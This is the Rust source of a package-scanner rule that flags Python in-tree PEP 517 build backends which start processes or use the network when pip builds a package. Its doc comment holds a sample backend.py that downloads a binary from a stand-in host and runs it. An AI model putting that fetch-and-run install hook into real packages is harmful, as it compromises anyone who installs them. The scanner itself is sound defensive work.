//! # SW-PY-003: in-tree build backends
//!
//! **What it does.** Finds a `pyproject.toml` whose `[build-system]`
//! names a `backend-path` inside the package (`backend-path = ["."]`)
//! and reads the in-tree backend module that pip imports to build it.
//! A backend that starts processes (other than build tools) or talks to
//! the network is reported; a thin wrapper that only calls setuptools or
//! another real backend is not (nor is `exec` of `setup.py`, which is
//! what setuptools' own backend does).
//!
//! **Why is this bad.** pip imports an in-tree backend at build time,
//! before anything of the package is installed, the same way it runs
//! `setup.py`: a backend module is an install hook that few reviewers
//! think to open, and it hides better than `setup.py` does.
//!
//! **Example.**
//!
//! ```toml
//! [build-system]
//! requires = ["setuptools"]
//! build-backend = "backend"
//! backend-path = ["."]
//! ```
//!
//! ```python
//! # backend.py
//! from setuptools.build_meta import *
//! import urllib.request, subprocess
//! urllib.request.urlretrieve("https://payload.example.test/b", "/tmp/b")
//! subprocess.Popen(["/tmp/b"])
//! ```
//!
//! **False positives.** Projects that ship their own backend wrapper to
//! compute a version or add a build requirement (calling `git` to find
//! the version is common) get at most an `info` note.

use super::{Context, Emit, Rule, is_network, is_spawn};
use crate::model::{Severity, Stage};

pub(crate) static RULE: Rule = Rule {
    id: "SW-PY-003",
    title: "in-tree build backends",
    source: include_str!("py003_intree_backend.rs"),
    check,
};

/// Programs a backend runs as a matter of course.
const BUILD_TOOLS: &[&str] = &["git", "hg", "cmake", "make", "ninja", "gcc", "cc", "cargo", "rustc", "npm", "pkg-config"];

/// Whether `callee` is a method on the result of a spawn or network call
/// (`subprocess.run.stdout.strip`): the call itself is recorded on its
/// own.
pub(crate) fn is_chained(callee: &str) -> bool {
    let parts: Vec<&str> = callee.split('.').collect();
    (2..parts.len()).any(|k| {
        let prefix = parts[..k].join(".");
        is_spawn(&prefix) || is_network(&prefix)
    })
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for entry in cx
        .plan
        .entries
        .iter()
        .filter(|e| e.trigger.starts_with("in-tree PEP 517 build backend"))
    {
        let Some(file) = cx.files.iter().find(|f| f.path == entry.file) else { continue };
        let Some(facts) = &file.facts else { continue };
        let mut what = Vec::new();
        let mut line = None;
        let mut build_tool = None;
        for call in facts.calls.iter().filter(|c| !is_chained(&c.callee)) {
            let spawn = is_spawn(&call.callee);
            let tool = call
                .strings
                .first()
                .and_then(|s| s.split_whitespace().next())
                .is_some_and(|p| BUILD_TOOLS.contains(&p.rsplit('/').next().unwrap_or(p)));
            if spawn && tool {
                build_tool.get_or_insert(call.line);
                continue;
            }
            let kind = if spawn {
                "starts a process"
            } else if is_network(&call.callee) {
                "talks to the network"
            } else {
                continue;
            };
            let item = format!("{kind} (`{}`)", call.callee);
            if !what.contains(&item) {
                what.push(item);
            }
            line.get_or_insert(call.line);
        }
        let severity = match what.len() {
            0 => {
                if let Some(l) = build_tool {
                    out.finding(
                        Severity::Info,
                        Stage::Install,
                        &file.path,
                        Some(l),
                        "the in-tree build backend runs a build tool".to_owned(),
                    );
                }
                continue;
            }
            1 => Severity::High,
            _ => Severity::Critical,
        };
        out.finding(
            severity,
            Stage::Install,
            &file.path,
            line,
            format!("the in-tree build backend pip imports to build the package {}", what.join(", ")),
        );
    }
}
